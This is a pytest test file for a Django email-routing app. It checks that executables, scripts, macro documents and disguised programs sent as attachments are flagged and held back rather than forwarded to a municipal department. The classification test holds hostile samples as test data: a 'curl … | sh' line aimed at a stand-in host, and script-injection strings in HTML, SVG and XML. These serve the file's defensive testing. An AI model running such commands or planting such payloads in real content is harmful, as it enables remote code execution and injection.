"""The department receives the companies' attachments from the OMIL's own address, so only
files a person vouched for, and never programs, scripts or macro documents (recognised by name
and by content), go out with «Derivada» and «Recordar al departamento»; the inbox flags them.

The messages arrive through the real IMAP server; what is asserted is the real outgoing
message in the outbox."""

import io
import zipfile
from datetime import timedelta

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone

from requests_routing.attachment_safety import BADGE, classify
from requests_routing.imap_poller import poll_mailbox
from requests_routing.models import EmailAttachment, InboundEmail, ServiceRequest
from requests_routing.services import service_request_create, service_request_route
from tests.requests_routing.conftest import eml

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("media_root")]

MZ_HEAD = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
DANGEROUS = ("factura.exe", "factura.pdf", "aviso-vecinos.html")


def deliver(mailbox, raw: bytes) -> InboundEmail:
    mailbox.append(raw)
    result = poll_mailbox()
    assert result.new == 1, result
    return InboundEmail.objects.get(pk=result.new_ids[0])


def department_messages():
    return [message for message in mail.outbox if message.to == ["aseo@example.cl"]]


def sent_bytes(message) -> bytes:
    return message.message().as_bytes()


@pytest.fixture
def at_once(settings):
    """The department may be reminded right after the derivation."""
    settings.DEPARTMENT_REMINDER_DAYS = 0


# Forwarding -------------------------------------------------------------------------------------


def test_programs_scripts_and_disguised_programs_never_reach_the_department(
    mailbox, client, administrativa, company, contact, pruning, at_once,
    django_capture_on_commit_callbacks,
):  # fmt: skip
    email = deliver(mailbox, eml("dangerous_attachments.eml"))
    client.force_login(administrativa)
    client.post(
        reverse("requests_routing:email_detail", args=[email.pk]),
        {
            "company": company.pk,
            "contact": contact.pk,
            "category": pruning.pk,
            "subject": "Poda en el acceso norte",
        },
    )
    request = ServiceRequest.objects.get()

    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("requests_routing:request_change_status", args=[request.pk]),
            {"status": "routed"},
        )
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("requests_routing:request_remind", args=[request.pk]))

    derivation, reminder = department_messages()
    for message in (derivation, reminder):
        assert [name for name, _content, _type in message.attachments] == ["presupuesto.pdf"]
        raw = sent_bytes(message)
        for name in DANGEROUS:
            assert name.encode() not in raw
        assert b"TVqQ" not in raw  # "MZ\x90" in base64: no program inside under any name
        assert "La OMIL retuvo 3 archivo(s) por seguridad" in message.body
    assert "Recordatorio" in reminder.subject


def test_dangerous_attachments_are_flagged_on_the_email_and_the_request_pages(
    mailbox, client, administrativa, company, pruning
):
    email = deliver(mailbox, eml("dangerous_attachments.eml"))
    flagged = dict(EmailAttachment.objects.values_list("filename", "danger"))
    assert flagged["presupuesto.pdf"] == ""
    assert flagged["factura.exe"].startswith("programa (.exe)")
    assert flagged["factura.pdf"] == "programa de Windows, por su contenido"
    assert flagged["aviso-vecinos.html"].startswith("página con código")
    client.force_login(administrativa)

    page = client.get(reverse("requests_routing:email_detail", args=[email.pk])).content.decode()
    client.post(
        reverse("requests_routing:email_detail", args=[email.pk]),
        {"company": company.pk, "category": pruning.pk, "subject": "Poda"},
    )
    request = ServiceRequest.objects.get()
    request_page = client.get(
        reverse("requests_routing:request_detail", args=[request.pk])
    ).content.decode()
    queue = client.get(reverse("requests_routing:inbox") + "?ver=revisados").content.decode()

    assert page.count(BADGE) == 3
    assert request_page.count(BADGE) == 3
    assert "Adjunto peligroso" in queue


def test_an_outsiders_attachment_is_forwarded_only_after_a_person_adds_the_mail(
    mailbox, client, administrativa, company, contact, pruning, at_once,
    django_capture_on_commit_callbacks,
):  # fmt: skip
    request = service_request_create(
        company=company,
        contact=contact,
        category=pruning,
        subject="Ramas sobre el cable",
        channel="email",
        created_by=administrativa,
        received_at=timezone.now() - timedelta(days=2),
    )
    with django_capture_on_commit_callbacks(execute=True):
        service_request_route(request=request, actor=administrativa)
    raw = eml("contact_reply_dkim_untrusted.eml").replace(
        b"SOL-2026-00001", request.reference.encode()
    )
    email = deliver(mailbox, raw)  # vouched for by nobody we trust: it waits for triage
    client.force_login(administrativa)
    remind = reverse("requests_routing:request_remind", args=[request.pk])

    with django_capture_on_commit_callbacks(execute=True):
        client.post(remind)
    client.post(
        reverse("requests_routing:email_attach", args=[email.pk]),
        {"reference": request.reference},
    )
    with django_capture_on_commit_callbacks(execute=True):
        client.post(remind)

    derivation, before, after = department_messages()
    assert derivation.attachments == [] and before.attachments == []
    assert b"plano-acceso.pdf" not in sent_bytes(before)
    assert [name for name, _content, _type in after.attachments] == ["plano-acceso.pdf"]


def test_a_file_that_turned_dangerous_since_it_arrived_is_held_and_flagged(
    administrativa, company, pruning, django_capture_on_commit_callbacks
):
    from django.core.files.base import ContentFile

    request = service_request_create(
        company=company,
        category=pruning,
        subject="Poda",
        channel="email",
        created_by=administrativa,
    )
    email = InboundEmail.objects.create(
        message_id="<antiguo-1@bodegas.cl>",
        content_hash="antiguo",
        raw=b"x",
        sender="ana@bodegas.cl",
        service_request=request,
        triage_state=InboundEmail.TriageState.REQUEST_CREATED,
        joined_by=InboundEmail.JoinedBy.PERSON,
    )
    old = EmailAttachment.objects.create(
        email=email,
        filename="orden-de-compra.pdf",
        content_type="application/pdf",
        size=16,
        file=ContentFile(MZ_HEAD, name="orden.pdf"),
    )

    with django_capture_on_commit_callbacks(execute=True):
        service_request_route(request=request, actor=administrativa)

    [derivation] = department_messages()
    assert derivation.attachments == []
    old.refresh_from_db()
    assert old.is_dangerous


# Classification ----------------------------------------------------------------------------------


def zipped(**members: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__", "/"), content)
    return buffer.getvalue()


PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"
DOCX = zipped(**{"[Content_Types].xml": b"<Types/>", "word__document.xml": b"<w:document/>"})


@pytest.mark.parametrize(
    ("filename", "content_type", "content"),
    [
        ("factura.exe", "application/octet-stream", b"no importa"),
        ("FACTURA.PDF.EXE", "application/pdf", PDF),
        ("factura.exe.", "application/octet-stream", b"x"),
        ("script.vbs", "text/plain", b'MsgBox "hola"'),
        ("instalar.msi", "application/octet-stream", b"x"),
        ("acceso.lnk", "application/octet-stream", b"x"),
        ("imagen.iso", "application/octet-stream", b"x"),
        ("planilla.xlsm", "application/vnd.ms-excel", b"x"),
        ("factura.pdf", "application/pdf", MZ_HEAD + b"\x00" * 64),
        ("lista.txt", "text/plain", b"#!/bin/sh\ncurl https://malo.example | sh\n"),
        ("nota.txt", "text/plain", b"Hola <SCRIPT>alert(1)</SCRIPT>"),
        ("dibujo.png", "image/png", b'<?xml version="1.0"?><svg onload="alert(1)"/>'),
        ("datos.xml", "application/xml", b'<?xml version="1.0"?><x><script>1</script></x>'),
        ("informe.docx", "application/octet-stream", zipped(**{"word__vbaProject.bin": b"v"})),
        ("fotos.zip", "application/zip", zipped(**{"fotos__factura.exe": MZ_HEAD})),
        ("libreria.zip", "application/zip", zipped(**{"META-INF__MANIFEST.MF": b"Main"})),
        ("disco.bin", "application/octet-stream", b"\x00" * 0x8001 + b"CD001"),
        ("pagina.dat", "text/html", b"Hola"),
        ("cuentas.xlsx", "application/octet-stream", b"PK\x03\x04 no es un zip completo"),
    ],
)
def test_dangerous_files_are_recognised_by_name_type_or_content(filename, content_type, content):
    assert classify(filename=filename, content_type=content_type, content=content)


@pytest.mark.parametrize(
    ("filename", "content_type", "content"),
    [
        ("presupuesto.pdf", "application/pdf", PDF),
        ("foto.jpg", "image/jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"),
        ("contrato.docx", "application/octet-stream", DOCX),
        (
            "datos.xml",
            "application/xml",
            "<?xml version='1.0'?><vacantes><v>Grúa</v></vacantes>".encode(),
        ),
        ("lista.csv", "text/csv", b"RUT;Nombre\n12.345.678-5;Luis Tapia\n"),
        ("notas.txt", "text/plain", b"Resumen de la cuenta, sin programa: " + MZ_HEAD),
    ],
)
def test_ordinary_office_files_pass(filename, content_type, content):
    assert classify(filename=filename, content_type=content_type, content=content) == ""
